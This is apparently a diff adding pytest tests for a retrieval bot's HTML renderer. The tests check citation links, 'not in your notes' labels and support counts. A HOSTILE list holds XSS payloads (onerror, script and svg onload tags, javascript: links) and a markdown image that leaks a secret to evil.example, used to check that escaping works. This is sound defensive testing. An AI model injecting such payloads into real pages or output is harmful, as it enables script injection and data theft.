@@ -1,0 +1,140 @@
+"""What a language model wrote, as HTML: what the notes say to each sentence, and nothing that it made up as markup."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import replace
+from html import unescape
+
+import pytest
+
+from rag_bot.records import NO_CLAIM, PARTLY, PROSE, SUPPORTED, UNSUPPORTED, Answer, Citation, Quote, Sentence, Usage
+from rag_bot.ui.prose_view import prose, share_words
+from rag_bot.ui.render import growing_prose, whole_answer
+
+QUOTE = Quote("The night tram leaves at two.", "n/trams.md", "Trams", (), (), 0, 29, 3, 4, 0.9)
+HOSTILE = (
+    '<img src=x onerror="alert(1)">',
+    "![leak](https://evil.example/?q=secret)",
+    "[click](javascript:alert(1)) and <https://evil.example> and https://evil.example",
+    "</span></p></div><script>alert(1)</script>",
+    '<a href="#" data-note="/etc/passwd" data-start="1">1</a>',
+    '" onmouseover="alert(1)',
+    "&lt;b&gt; ${process.env} {{this}}",
+    "<!-- --><svg/onload=alert(1)>",
+)
+
+
+def answer(*sentences: Sentence, **more: object) -> Answer:
+    made = Answer("q", "", (Citation(1, QUOTE),), False, 0.9, PROSE, sentences, (), {"total": 900.0}, model="m")
+    return replace(made, **more)  # type: ignore[arg-type]
+
+
+def text_of(html: str) -> str:
+    return unescape(re.sub(r"<[^>]+>", "", html))
+
+
+def tags(html: str) -> list[str]:
+    return re.findall(r"<(\w+)", html)
+
+
+def test_sentences_flow_with_their_numbers_which_open_the_note_at_the_cited_lines() -> None:
+    html = prose(answer(Sentence("One.", (1,)), Sentence("Two.", (1,), before=" ")))
+    assert text_of(html) == "One.1 Two.1"
+    assert tags(html).count("p") == 1
+    assert html.count('data-note="n/trams.md" data-start="3" data-end="4"') == 2
+    assert 'aria-label="Citation 1: show it in the note"' in html
+
+
+def test_a_citation_that_is_not_there_is_no_link() -> None:
+    assert "<a" not in prose(answer(Sentence("One.", (7,))))
+
+
+def test_what_parts_the_sentences_makes_paragraphs_lines_and_lists() -> None:
+    befores = ("", "\n\n", "\n- ", "\n- ", " ", "\n\n", "\n3. ", "\n4. ", "\n\n", "\n")
+    html = prose(answer(*(Sentence(f"s{n}.", (), before=before) for n, before in enumerate(befores))))
+    shape = re.sub(r"<(\w+)[^>]*>", r"<\1>", re.sub(r"</?span[^>]*>", "", html))
+    assert shape == (
+        "<div><p>s0.</p><p>s1.</p><ul><li>s2.</li><li>s3. s4.</li></ul><p>s5.</p>"
+        "<ol><li>s6.</li><li>s7.</li></ol><p>s8.<br>s9.</p></div>"
+    )
+    assert '<ol start="3">' in html
+
+
+def test_an_answer_may_begin_with_a_list() -> None:
+    assert tags(prose(answer(Sentence("One.", (), before="\n* "))))[:3] == ["div", "ul", "li"]
+
+
+@pytest.mark.parametrize(
+    ("support", "label"), [(UNSUPPORTED, "not in your notes"), (PARTLY, "only partly in your notes")]
+)
+def test_a_sentence_that_the_notes_do_not_support_says_so_in_words_with_its_reasons(support: str, label: str) -> None:
+    html = prose(answer(Sentence("It leaves at 3.", (), support, ("3 is not in the cited lines", "Really?"))))
+    assert text_of(html) == f"It leaves at 3. {label}3 is not in the cited lines.Really?"
+    assert 'role="note"' in html
+    assert 'tabindex="0"' in html
+
+
+@pytest.mark.parametrize("support", [SUPPORTED, NO_CLAIM])
+def test_a_sentence_that_needs_no_mark_has_none(support: str) -> None:
+    assert "doubt" not in prose(answer(Sentence("Your notes say:", (), support, ("beside the point",))))
+
+
+def test_what_is_not_checked_yet_says_so_and_comes_last() -> None:
+    html = growing_prose(answer(Sentence("One.", (1,)), draft=" and then "))
+    assert 'aria-busy="true"' in html
+    assert text_of(html).startswith("One.1and then being checked")
+    assert "being checked" not in whole_answer(answer(Sentence("One.", (1,))), ())
+
+
+def test_before_the_first_word_it_says_who_reads() -> None:
+    assert text_of(growing_prose(answer())).strip() == "m is reading"
+
+
+def test_a_whole_answer_says_who_wrote_it_how_much_is_supported_and_shows_the_cited_lines() -> None:
+    sentences = (Sentence("Here:", (), NO_CLAIM), Sentence("One.", (1,)), Sentence("Two.", (), UNSUPPORTED))
+    html = whole_answer(answer(*sentences, usage=Usage(1200, 34), notice="Stopped."), ())
+    said = text_of(html)
+    assert "Written by m, each sentence checked against your notes: 1 of 2 sentences supported" in said
+    assert "The night tram leaves at two." in said
+    assert said.startswith("Stopped.")
+    assert "1,200 tokens read, 34 written" in html
+
+
+@pytest.mark.parametrize(
+    ("supports", "words"),
+    [
+        ((), "no sentence claims anything"),
+        ((NO_CLAIM,), "no sentence claims anything"),
+        ((SUPPORTED,), "its one sentence is supported"),
+        ((SUPPORTED, NO_CLAIM, SUPPORTED), "all 2 sentences are supported"),
+        ((SUPPORTED, PARTLY, UNSUPPORTED), "1 of 3 sentences supported"),
+        ((UNSUPPORTED,), "0 of 1 sentence supported"),
+    ],
+)
+def test_the_share_counts_sentences_that_claim_something(supports: tuple[str, ...], words: str) -> None:
+    assert share_words(answer(*(Sentence("s", (), support) for support in supports))) == words
+
+
+def _whole(one: Answer) -> str:
+    return whole_answer(one, ())
+
+
+def _growing(one: Answer) -> str:
+    return growing_prose(replace(one, draft=one.model))
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_nothing_that_a_model_writes_becomes_a_link_an_image_or_html(hostile: str) -> None:
+    sentences = (
+        Sentence(hostile, (1,), PARTLY, (hostile,)),
+        Sentence(hostile, (), NO_CLAIM, before=f"\n\n{hostile}\n- "),
+    )
+    calm = (Sentence("x", (1,), PARTLY, ("x",)), Sentence("x", (), NO_CLAIM, before="\n\nx\n- "))
+    more = {"model": hostile, "notice": hostile, "searched_for": hostile}
+    for make in (_whole, _growing):
+        html = make(answer(*sentences, **more))
+        assert tags(html) == tags(make(answer(*calm, model="x", notice="x", searched_for="x")))
+        assert not re.search(r"<[^>]* on\w+=", re.sub(r'"[^"]*"', "", html))
+        assert set(re.findall(r'(?:href|src)="([^"]*)"', html)) == {"#"}
+        assert set(re.findall(r'data-note="([^"]*)"', html)) == {"n/trams.md"}
